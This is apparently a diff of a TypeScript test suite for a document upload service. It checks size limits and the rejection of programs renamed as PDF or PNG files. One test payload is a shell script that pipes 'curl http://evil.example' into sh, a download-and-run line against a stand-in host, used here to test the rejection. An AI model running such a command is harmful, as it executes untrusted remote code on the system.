@@ -13,12 +13,17 @@ const pdfLike = (size: number) => {
 describe('uploads: size limit and content check refuse with a clear Message and store nothing', () => {
   let app: TestApp;
   let token = '';
-  const profileDocs = async (): Promise<Doc[]> => (await (await app.call('/api/Documents/GetCustomerDocuments', { headers: { UserToken: token } })).json()).Value;
+  const profileDocs = async (): Promise<Doc[]> =>
+    (await (await app.call('/api/Documents/GetCustomerDocuments', { headers: { UserToken: token } })).json()).Value;
   const upload = (name: string, bytes: Buffer) => {
     const form = new FormData();
     form.append('FileTypeID', '7');
     form.append('file', new Blob([new Uint8Array(bytes)]), name);
-    return fetch(`${app.url}/api/file/UploadByCustomerID`, { method: 'POST', body: form, headers: { UserToken: token } });
+    return fetch(`${app.url}/api/file/UploadByCustomerID`, {
+      method: 'POST',
+      body: form,
+      headers: { UserToken: token },
+    });
   };
   beforeAll(async () => {
     app = await startTestApp();
@@ -45,8 +50,12 @@ describe('uploads: size limit and content check refuse with a clear Message and 
     expect(res.status).toBe(200);
     const { FileId } = await res.json();
     expect((await profileDocs()).map((d) => d.FileId)).toContain(FileId);
-    const passable: string = await (await app.call('/api/PassableToken/GetPassableToken', { headers: { UserToken: token } })).json();
-    const view = await app.call(`/api/Documents/ViewDocument?FileId=${FileId}&Name=statement.pdf&PageNumber=1&FileFormat=PDF&token=${passable}`);
+    const passable: string = await (
+      await app.call('/api/PassableToken/GetPassableToken', { headers: { UserToken: token } })
+    ).json();
+    const view = await app.call(
+      `/api/Documents/ViewDocument?FileId=${FileId}&Name=statement.pdf&PageNumber=1&FileFormat=PDF&token=${passable}`,
+    );
     expect(view.status).toBe(200);
     expect(Buffer.from(await view.arrayBuffer()).equals(bytes)).toBe(true);
   }, 60_000);
@@ -54,9 +63,21 @@ describe('uploads: size limit and content check refuse with a clear Message and 
   it('when a program is renamed to .pdf or .png (Windows MZ, Linux ELF, a script) then 400 says it is a program, and nothing is stored', async () => {
     const before = await profileDocs();
     const programs: [string, Buffer, string][] = [
-      ['invoice.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]), 'This file is a program, not a PDF document. It was not uploaded.'],
-      ['photo.png', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]), 'This file is a program, not a PNG document. It was not uploaded.'],
-      ['notes.pdf', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'This file is a program, not a PDF document. It was not uploaded.'],
+      [
+        'invoice.pdf',
+        Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]),
+        'This file is a program, not a PDF document. It was not uploaded.',
+      ],
+      [
+        'photo.png',
+        Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]),
+        'This file is a program, not a PNG document. It was not uploaded.',
+      ],
+      [
+        'notes.pdf',
+        Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
+        'This file is a program, not a PDF document. It was not uploaded.',
+      ],
     ];
     for (const [name, bytes, message] of programs) {
       const res = await upload(name, bytes);
